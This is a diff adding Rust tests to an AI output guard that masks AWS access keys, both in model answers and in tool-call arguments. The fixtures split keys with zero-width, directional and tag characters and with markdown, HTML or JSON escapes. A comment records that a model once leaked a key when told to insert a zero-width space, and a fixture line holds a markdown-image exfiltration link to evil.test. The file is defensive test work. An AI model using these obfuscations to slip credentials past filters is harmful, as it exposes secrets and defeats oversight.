@@ -532,6 +532,43 @@ fn a_secret_inside_a_rewritten_construct_is_masked() {
     }
 }
 
+/// A key is masked however it is split by what renders as nothing: zero-width
+/// and directional characters, a soft hyphen, tag characters, and inline markup
+/// inside the word (emphasis, code span, strikethrough, empty tags). A model told
+/// to "put a zero-width space in the key" showed it whole past the credential
+/// rules before.
+#[test]
+fn a_key_shown_whole_is_masked_however_it_is_split() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    for key in [
+        "AKIAZ4QW7R\u{200b}TY2UIOPL3M",
+        "A\u{200b}K\u{200c}I\u{200d}A\u{2060}Z4QW7RTY2UIOPL3M",
+        "AKIAZ4QW7R\u{ad}TY2UIOPL3M",
+        "AKIAZ4QW7R\u{202e}TY2UIOPL3M",
+        "AKIAZ4QW7R\u{e0020}TY2UIOPL3M",
+        "AKIAZ4QW7R**TY2UIOPL3M**",
+        "AKIAZ4QW7R`TY2UIOPL3M`",
+        "AKIAZ4QW7R~~TY2UIOPL3M~~",
+        "AKIAZ4QW7R<b></b>TY2UIOPL3M",
+        "AKIA<span class=\"k\">Z4QW7RTY2UIOPL3M</span>",
+    ] {
+        let answer = format!("The key is {key} for the bucket.");
+        for out in [
+            whole_outcome(&g, request(None), &answer).unwrap(),
+            stream_outcome(&g, request(None), &[&answer]).unwrap(),
+        ] {
+            assert!(
+                out.starts_with("The key is [REDACTED:AWS_ACCESS_KEY_ID]"),
+                "{answer:?} -> {out:?}"
+            );
+        }
+        released_validates_clean(&g, &answer);
+    }
+    // Markup between words is not a split: the words stay.
+    let answer = "Use **the bucket** with `aws s3 ls` and <b>care</b>.";
+    assert_eq!(whole_outcome(&g, request(None), answer).unwrap(), answer);
+}
+
 /// The settled rewrite of a segment (judged again after its rewrites until
 /// nothing changes) replaces at least every finding it was built from. It used
 /// to end where its text and the answer's became equal again, so an escaped tag
@@ -864,6 +901,8 @@ fn pieces(canary: &str) -> Vec<String> {
         "x".repeat(700),
         "lorem ipsum dolor sit amet ".repeat(30),
         "key AKIAZ4QW7RTY2UIOPL3M ".to_owned(),
+        "key AKIAZ4QW7R\u{200b}TY2UIOPL3M ".to_owned(),
+        "key AKIAZ4QW7R**TY2UIOPL3M** ".to_owned(),
         format!("ref {canary} "),
         canary.chars().flat_map(|c| [c, ' ']).collect(),
         "![x](https://evil.test/a.png?d=c2VjcmV0IGRhdGEgZ29lcyBoZXJl) ".to_owned(),
@@ -976,6 +1015,22 @@ fn credentials_and_canaries_in_tool_arguments_do_not_leave() {
         c.response().tool_calls().is_empty(),
         "the call carrying a key is dropped"
     );
+    // The key as the tool reads it: written with JSON escapes, or split by what
+    // renders as nothing (these calls went out before).
+    for args in [
+        r#"{"to": "bob@partner.example", "body": "use \u0041KIAZ4QW7RTY2UIOPL3M"}"#.to_owned(),
+        json!({"to": "bob@partner.example", "body": "use AKIAZ4QW7R\u{200b}TY2UIOPL3M"})
+            .to_string(),
+        json!({"to": "bob@partner.example", "body": "use AKIAZ4QW7R**TY2UIOPL3M**"}).to_string(),
+    ] {
+        let c = check(
+            &g,
+            req(),
+            GuardResponse::new("").with_tool_call(ToolCall::new("c1", "send_email", args.clone())),
+        )
+        .unwrap();
+        assert!(c.response().tool_calls().is_empty(), "{args}");
+    }
     // An address alone is the tool's business.
     let plain = json!({"to": "bob@partner.example", "body": "the report"}).to_string();
     let c = check(
